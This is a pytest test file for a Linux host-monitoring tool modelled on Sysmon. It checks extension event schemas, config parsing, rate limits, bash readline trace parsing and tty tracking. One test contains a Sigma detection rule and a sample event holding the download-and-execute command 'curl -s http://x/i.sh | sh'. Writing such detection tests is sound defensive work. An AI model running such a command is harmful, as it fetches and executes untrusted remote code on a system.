"""The visibility events' assembly and decoding without a kernel: value formats, the rate limit,
the shell probe's trace lines and ELF symbol offsets, the schema entries of 210-213."""

from __future__ import annotations

import shutil
import subprocess

import pytest

from sysmonx.config import parse_config
from sysmonx.core.errors import ConfigError
from sysmonx.schema import CURRENT, extended, get_schema, sysmon_only
from sysmonx.schema.printer import render_schema_output
from sysmonx.sensor import observations as ob
from sysmonx.sensor.assemble import Assembler
from sysmonx.sensor.backends.shell import (TTY_MEMORY, elf_symbol_offset, parse_line,
                                          tty_for_line)
from sysmonx.sensor.process import ProcessCache
from sysmonx.sensor.visibility import RATE_MAX, memfd_flags_text, prot_text

NOW = 1_765_000_000 * 10**9


def asm() -> Assembler:
    a = Assembler(ProcessCache(machine="0badcafe"), computer="h")
    a.identity_check = False
    a.build(ob.ProcessExec(NOW, 4242, ppid=1, start_ticks=100, image="/usr/bin/python3",
                           argv=["python3", "x.py"], cwd="/", uid=0, end_data=0x55AA0000))
    return a


def test_schema_entries_are_extension_events_like_the_others():
    for eid, tag, cat in ((210, "ShellCommand", "shell_command"),
                          (211, "PrivilegeChange", "privilege_change"),
                          (212, "MemfdCreate", "memfd_create"), (213, "ExecMemory", "exec_memory")):
        ev = CURRENT.events[eid]
        assert ev.tag == tag and ev.extension and ev.field_names[:2] == ("RuleName", "UtcTime")
        assert ev.sigma_category == cat
        # in every schema version (a 4.50 config may filter them), never in Sysmon's own view
        assert get_schema("4.50").tags[tag] == (eid,)
        assert eid not in sysmon_only(get_schema("4.91")).events
        assert tag not in sysmon_only(get_schema("4.91")).tags
    assert CURRENT.events[210].default == "include" and CURRENT.events[212].default == "exclude"
    # -s lists them after Sysmon's events; Sysmon's manifest without them stays exact
    assert "ShellCommand" in render_schema_output("4.91")[0]
    assert "ShellCommand" not in render_schema_output("4.91", extensions=False)[0]
    assert "GrandparentImage" in extended(get_schema("4.91")).tag_fields["ProcessCreate"]
    assert "GrandparentImage" not in extended(get_schema("4.91")).tag_fields["DriverLoad"]
    assert "GrandparentImage" not in get_schema("4.91").tag_fields["ProcessCreate"]


def test_extension_tags_are_refused_with_extensions_off():
    src = ('<Sysmon schemaversion="4.50"><EventFiltering><RuleGroup groupRelation="or">'
           '<ShellCommand onmatch="exclude"><Command condition="begin with">ls</Command>'
           '</ShellCommand></RuleGroup></EventFiltering></Sysmon>')
    assert parse_config(src).rule_sets[0].tag == "ShellCommand"
    with pytest.raises(ConfigError, match=r"<ShellCommand> filters a SysmonX event \(EventID "
                                          r"210\); SysmonX extensions are disabled"):
        parse_config(src, extensions=False)
    # a field of an extension event is not a Sysmon field inside <Rule> either
    with pytest.raises(ConfigError, match="Command"):
        parse_config('<Sysmon schemaversion="4.50"><EventFiltering><ProcessCreate '
                     'onmatch="include"><Rule groupRelation="or"><Command condition="is">x'
                     '</Command></Rule></ProcessCreate></EventFiltering></Sysmon>',
                     extensions=False)


def test_value_formats():
    assert prot_text(5) == "r-x" and prot_text(7) == "rwx" and prot_text(None) == "-"
    assert memfd_flags_text(0) == "0"
    assert memfd_flags_text(3) == "MFD_CLOEXEC|MFD_ALLOW_SEALING"
    assert memfd_flags_text(0x100) == "0x100"


def test_events_carry_the_process_and_exact_fields():
    a = asm()
    e = a.build(ob.PrivilegeChange(NOW + 1, 4242, "capset", "Capabilities", (0, 0, 0),
                                   (1 << 21, 1 << 21, 0)))
    assert e.event_id == 211 and e.data["Image"] == "/usr/bin/python3"
    assert e.data["PreviousValue"] == "0x0000000000000000/0x0000000000000000/0x0000000000000000"
    assert e.data["NewValue"] == "0x0000000000200000/0x0000000000200000/0x0000000000000000"
    w = a.build(ob.MemoryWrite(NOW + 2, 4242, 4243, "ptrace(PTRACE_POKETEXT)", 0x401000, 8))
    assert list(w.data) == list(CURRENT.events[8].field_names)
    assert w.data["StartAddress"] == "0x401000" and w.data["NewThreadId"] == "0"
    assert w.data["StartFunction"] == "ptrace(PTRACE_POKETEXT)"
    s = a.build(ob.ShellCommand(NOW + 3, 4242, "id\x1b[31m", None))
    assert s.data["Tty"] == "-" and list(s.data) == list(CURRENT.events[210].field_names)
    m = a.build(ob.ModuleLoad(NOW + 4, 4242, None, None))
    assert m.event_id == 6 and m.data["ImageLoaded"] == "-" and m.data["Hashes"] == "-"


def test_memfd_and_exec_memory_are_rate_limited_per_process():
    a = asm()
    out = []
    for i in range(RATE_MAX + 30):
        out += a.build_events(ob.MemfdCreate(NOW + i, 4242, f"m{i}", 1))
    kinds = [e.event_id for e in out]
    assert kinds.count(212) == RATE_MAX and kinds.count(255) == 1
    assert a.rate_limited[212] == 30
    # another process is not limited by the first; a new window starts over
    assert a.build(ob.MemfdCreate(NOW + 100, 5000, "x", 0)).event_id == 212
    assert a.build(ob.MemfdCreate(NOW + 11 * 10**9, 4242, "y", 0)).event_id == 212


def test_shell_trace_lines():
    line = (b"            bash-4242    (   4242) [001] ..... 812.345678: readline_0: "
            b"(0x55d1c0b5e8a0 <- 0x55d1c0b6cc20) cmd=\"echo \"hi\" | cat\"")
    assert parse_line(line) == (4242, 812_345_678_000, 'echo "hi" | cat')
    assert parse_line(line.replace(b'cmd="echo "hi" | cat"', b"cmd=(fault)")) is None
    assert parse_line(b"# tracer: nop") is None
    # the backend resolves the process from the tid (the printed column may be stale)
    seen = []
    assert parse_line(line, lambda tid, printed: seen.append((tid, printed)) or 77)[0] == 77
    assert seen == [(4242, 4242)]
    assert parse_line(line.replace(b"(   4242)", b"(-------)"))[0] == 4242


@pytest.mark.skipif(not shutil.which("nm"), reason="binutils nm not installed")
def test_elf_symbol_offset_matches_nm():
    out = subprocess.run(["nm", "-D", "/usr/bin/bash"], capture_output=True, text=True).stdout
    value = next(int(line.split()[0], 16) for line in out.splitlines()
                 if line.endswith(" readline") and " T " in line)
    # bash's first PT_LOAD maps offset 0 at address 0: the file offset is the value
    assert elf_symbol_offset("/usr/bin/bash", "readline") == value
    assert elf_symbol_offset("/usr/bin/bash", "no_such_symbol_sx") is None
    assert elf_symbol_offset("/etc/hostname", "readline") is None


def test_sigma_sees_the_new_events_through_their_logsource(tmp_path):
    from sysmonx.detection.stage import DetectionStage
    from sysmonx.event import LINUX_PROVIDER, Event
    rule = tmp_path / "sh.yml"
    rule.write_text("""title: Download piped to a shell, typed interactively
id: 0f7f3f0e-5a0a-4c55-9f3e-2a7d0a3c2e10
status: experimental
logsource: {product: linux, category: shell_command}
detection:
  selection:
    Command|contains|all: ['curl ', '| sh']
  condition: selection
level: high
""")
    det = DetectionStage.from_paths([rule])
    assert det.rules_loaded == 1
    hit = Event(210, {"Command": "curl -s http://x/i.sh | sh", "Tty": "/dev/pts/1"},
                provider=LINUX_PROVIDER)
    miss = Event(1, {"CommandLine": "curl -s http://x/i.sh | sh"}, provider=LINUX_PROVIDER)
    assert len(det.process(hit)) == 1 and det.process(miss) == []


def test_shell_line_tty_of_a_zombie_shell_is_the_one_it_had():
    """Seen as a flaky ``Tty -`` (test_live_visibility.py::test_shell_commands_typed_on_a_pty
    under load): the ``exit`` line read while bash was a zombie (exited, its terminal released,
    not yet reaped by its parent) found no terminal in /proc and, the pid still being there,
    dropped the one remembered from the shell's earlier lines."""
    import os
    import time
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    try:
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            with open(f"/proc/{pid}/stat", "rb") as fh:
                if fh.read().rsplit(b")", 1)[1].split()[0] == b"Z":
                    break
            time.sleep(0.01)
        known = {pid: "/dev/pts/7"}   # seen at the shell's earlier lines
        assert tty_for_line(pid, known) == "/dev/pts/7"
    finally:
        os.waitpid(pid, 0)
    assert tty_for_line(pid, {pid: "/dev/pts/7"}) == "/dev/pts/7"  # reaped: gone


def test_shell_line_tty_survives_the_shell_exiting_but_never_moves_to_a_live_pid():
    known: dict = {}
    ttys = {42: "/dev/pts/3"}
    alive = {42}

    read, is_alive = (lambda p: ttys.get(p) if p in alive else None), (lambda p: p in alive)
    assert tty_for_line(42, known, read, is_alive) == "/dev/pts/3"
    alive.clear()  # "exit" read, then bash gone before its line was handled
    assert tty_for_line(42, known, read, is_alive) == "/dev/pts/3"
    alive.add(42)
    ttys.pop(42)  # pid reused by a process without a terminal: forgotten, not inherited
    assert tty_for_line(42, known, read, is_alive) is None
    alive.clear()
    assert tty_for_line(42, known, read, is_alive) is None
    assert tty_for_line(7, known, read, is_alive) is None  # never seen
    for pid in range(TTY_MEMORY + 10):  # bounded
        alive.add(pid)
        ttys[pid] = "/dev/pts/1"
        tty_for_line(pid, known, read, is_alive)
    assert len(known) == TTY_MEMORY and 0 not in known
